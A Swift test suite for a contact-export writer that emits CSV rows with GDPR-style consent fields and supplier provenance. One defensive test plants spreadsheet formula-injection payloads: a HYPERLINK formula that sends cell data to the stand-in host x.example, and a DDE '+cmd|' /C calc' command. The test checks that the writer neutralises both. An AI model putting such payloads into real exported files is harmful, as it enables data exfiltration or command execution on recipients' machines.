import Foundation
import Testing

@testable import TrocCore

/// What a delivery says of each row: its provenance, the channels passed and only the consents the
/// supplier recorded, with no cell a spreadsheet would run.
@Suite struct CanonicalContactWriterTests {
    typealias T = TestSupport

    static let provenance = DeliveryProvenance(supplierName: "Menuiseries Durand SARL", supplierSIREN: "732829320", dealID: "del_TEST0001")

    /// A's file matched against a small business file, and what B would receive, row by row, as
    /// header → cell.
    static func delivery(_ a: String) throws -> [[String: String]] {
        let outcome = try T.match(a, T.file([T.row(email: "b@entreprise.fr", company: "B")]), options: MatchOptions(rules: T.rules, policy: .all))
        var bytes: [UInt8] = []
        let written = try CanonicalContactWriter.write(
            from: MemorySource(a), mappings: [], selection: outcome.toB, provenance: provenance, asOf: T.asOf
        ) { bytes.append(contentsOf: $0) }
        let lines = String(decoding: bytes, as: UTF8.self).components(separatedBy: "\r\n").dropLast()
        #expect(lines.first == CanonicalContactWriter.header)
        #expect(written == lines.count - 1)
        let header = CanonicalContactWriter.header.split(separator: ";").map(String.init)
        return lines.dropFirst().map { line in
            let cells = CSVRecordScanner.records(of: line, delimiter: UInt8(ascii: ";"))[0]
            return Dictionary(uniqueKeysWithValues: zip(header, cells))
        }
    }

    @Test func theHeaderCarriesContactChannelsConsentsAndProvenance() {
        #expect(
            CanonicalContactWriter.header
                == "civilite;nom;prenom;nom_complet;email;telephone;telephone_2;adresse;code_postal;ville;pays;raison_sociale;siret;code_naf;"
                + "type_contact;canaux;consentement_email;date_consentement_email;consentement_telephone;date_consentement_telephone;"
                + "consentement_sms;date_consentement_sms;cession_partenaires;preuve_consentement;source;date_collecte;"
                + "date_dernier_contact_entrant;fournisseur;siren_fournisseur;reference_echange")
    }

    @Test func aConsumerRowCarriesEachConsentWithItsDateProofAndProvenance() throws {
        let header =
            "nom;email;telephone;source;date_collecte;optin_email;optin_tel;date_consentement;cession_partenaires;"
            + "preuve_consentement;date_derniere_demande"
        let a =
            header + "\r\nMartin;Zoe@Gmail.com;06 12 34 56 78;Salon Habitat;01/10/2026;05/10/2026;oui;02/10/2026;oui;"
            + "\"Formulaire devis v3; case « partenaires »\";12/11/2026\r\n"
        let row = try #require(try Self.delivery(a).first)
        #expect(row["email"] == "Zoe@Gmail.com" && row["telephone"] == "+33612345678")
        #expect(row["type_contact"] == "B2C" && row["canaux"] == "email,telephone")
        #expect(row["consentement_email"] == "oui" && row["date_consentement_email"] == "2026-10-05")
        #expect(row["consentement_telephone"] == "oui" && row["date_consentement_telephone"] == "2026-10-02")
        #expect(row["consentement_sms"] == "" && row["date_consentement_sms"] == "")
        #expect(row["cession_partenaires"] == "oui" && row["preuve_consentement"] == "Formulaire devis v3; case « partenaires »")
        #expect(row["source"] == "Salon Habitat" && row["date_collecte"] == "2026-10-01" && row["date_dernier_contact_entrant"] == "2026-11-12")
        #expect(row["fournisseur"] == "Menuiseries Durand SARL" && row["siren_fournisseur"] == "732829320")
        #expect(row["reference_echange"] == "del_TEST0001")
    }

    @Test func aDeliveryNeverClaimsAConsentTheSupplierDidNotRecord() throws {
        let a = T.file([
            T.row(email: "achats@acme.fr", phone: "06 11 11 11 11", company: "ACME", consent: ""),  // 2: nothing recorded
            T.row(email: "ventes@acme.fr", phone: "06 22 22 22 22", company: "ACME", consent: "oui"),  // 3: a generic opt-in
        ])
        let rows = try Self.delivery(a)
        #expect(rows.count == 2)
        #expect(rows[0]["canaux"] == "email,telephone,sms" && rows[0]["type_contact"] == "B2B")
        for column in ["consentement_email", "consentement_telephone", "consentement_sms", "cession_partenaires", "preuve_consentement"] {
            #expect(rows[0][column] == "", "\(column)")
        }
        // The generic opt-in is an email consent: it says nothing of calls or SMS.
        #expect(rows[1]["consentement_email"] == "oui")
        #expect(rows[1]["consentement_telephone"] == "" && rows[1]["consentement_sms"] == "")
        #expect(rows[1]["date_collecte"] == "2026-10-01")
    }

    @Test func aNumberPassedForSMSAloneIsTheMobileOne() throws {
        let header = "nom;email;telephone;portable;source;date_collecte;optin_sms;date_consentement;cession_partenaires"
        let a = header + "\r\nMartin;zoe@gmail.com;02 40 12 34 56;06 12 34 56 78;salon;01/10/2026;oui;02/10/2026;oui\r\n"
        let row = try #require(try Self.delivery(a).first)
        #expect(row["canaux"] == "sms" && row["email"] == "")
        #expect(row["telephone"] == "+33612345678" && row["telephone_2"] == "")
        #expect(row["consentement_sms"] == "oui" && row["date_consentement_sms"] == "2026-10-02" && row["consentement_telephone"] == "")
    }

    @Test func cellsASpreadsheetWouldRunAreNeutralised() throws {
        // A firm plants formulas in its own file; the other firm's delivery must not run them.
        let header = "nom;prenom;email;telephone;raison_sociale;adresse;source;date_collecte"
        let a =
            header + "\r\n\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"clic\"\")\";@SUM(1+1);a@acme.fr;+33 6 12 34 56 78;"
            + "+cmd|' /C calc'!A0;-2+3;-42;01/10/2026\r\n"
        let row = try #require(try Self.delivery(a).first)
        #expect(row["nom"] == "'=HYPERLINK(\"http://x.example/?\"&A1;\"clic\")")
        #expect(row["prenom"] == "'@SUM(1+1)")
        #expect(row["raison_sociale"] == "'+cmd|' /C calc'!A0")
        #expect(row["adresse"] == "'-2+3")
        #expect(row["source"] == "-42", "a plain number is not a formula")
        #expect(row["telephone"] == "+33612345678", "an E.164 phone stays as it is")
    }

    @Test(arguments: [
        ("=1+1", true), ("@SUM(A1)", true), ("\tx", true), ("\rx", true), ("+33612345678", false), ("-42", false), ("-3,5", false),
        ("+1.25", false), ("+", true), ("-", true), ("-2+3", true), ("+cmd", true), ("-5 rue", true), ("1+1", false), ("Martin", false),
        ("", false), ("+33 6 12", true), ("-.5", true),
    ])
    func whatASpreadsheetWouldRun(cell: String, runs: Bool) {
        #expect(SpreadsheetCell.runsAsFormula(cell) == runs)
        #expect(SpreadsheetCell.neutralised(cell) == (runs ? "'" + cell : cell))
    }
}
